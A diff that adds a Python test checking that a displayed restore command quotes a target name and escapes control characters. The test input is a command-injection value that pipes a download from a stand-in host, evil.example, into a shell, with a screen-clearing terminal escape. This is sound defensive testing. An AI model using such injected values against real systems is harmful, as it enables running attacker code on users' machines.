@@ -63,3 +63,11 @@ def test_the_cause_is_the_first_class_that_a_reason_names(
     text: str, cause: ErrorClass | None
 ) -> None:
     assert cause_of(text) is cause
+
+
+def test_a_command_to_copy_has_no_second_command_in_a_name() -> None:
+    """Nobody checks the name of a RestoreSession's target before it is shown."""
+    place = Place("demo", "library", into="x; curl evil.example \x1b[2J| sh")
+    shown = next_command("Evicted: x", place)
+    assert shlex.split(shown)[-1] == "x; curl evil.example \\x1b[2J| sh"
+    assert shown.isprintable()
